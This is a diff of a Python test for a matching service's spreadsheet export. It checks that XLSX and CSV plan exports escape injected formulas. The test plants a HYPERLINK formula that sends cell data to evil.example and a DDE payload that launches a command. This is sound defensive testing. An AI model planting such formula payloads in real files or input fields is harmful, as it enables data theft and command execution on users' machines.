@@ -247,22 +247,29 @@ def test_nul_row_in_upload_costs_only_itself(client: TestClient, staff: dict[str
 
 
 def test_plan_xlsx_with_control_characters_and_formulas(
-    client: TestClient, staff: dict[str, str], world: World, session_factory  # type: ignore[no-untyped-def]
+    client: TestClient, staff: dict[str, str], world: World, session_factory,  # type: ignore[no-untyped-def]
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
+    from matcher.service import MatchService
+    from tests.matcher.test_event_plan import TableScorer
+
+    # the plan's content is not under test here, only its export: every pair scores well
+    monkeypatch.setattr(MatchService, "score_matrix", lambda self, *args: TableScorer(0.9)(*args))
     with session_factory() as s:
-        d = s.get(Demand, world.battery_demand)
-        d.title = '=HYPERLINK("http://evil.example/?d="&A1,"x")\x0b\x01'
-        d.enterprise.name = "=cmd|' /C calc'!A0"
+        for d in s.scalars(select(Demand)):
+            d.title = '=HYPERLINK("http://evil.example/?d="&A1,"x")\x0b\x01' + d.title
+            d.enterprise.name = f"=cmd|' /C calc'!A0 {d.enterprise_id}"
         s.commit()
     ev = client.post("/events", headers=staff, json={"name": "宁德站", "starts_on": "2030-05-10"}).json()
-    assert client.post(f"/events/{ev['id']}/plan", headers=staff).status_code == 201
+    planned = client.post(f"/events/{ev['id']}/plan", headers=staff)
+    assert planned.status_code == 201 and planned.json()["items"], planned.text[:300]
     for contacts in ("false", "true"):
         r = client.get(f"/events/{ev['id']}/plan.xlsx", headers=staff, params={"contacts": contacts})
         assert r.status_code == 200, r.text[:200]
         wb = load_workbook(io.BytesIO(r.content))
         values = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
         assert all(c.data_type == "s" and not c.value.startswith(("=", "+", "-", "@")) for c in values)
-        assert any(c.value == "'=cmd|' /C calc'!A0" for c in values)
+        assert any(c.value.startswith("'=cmd|' /C calc'!A0") for c in values)
     r = client.get(f"/events/{ev['id']}/plan.csv", headers=staff)
     assert r.status_code == 200 and "'=HYPERLINK" in r.text and "\x0b" not in r.text
 
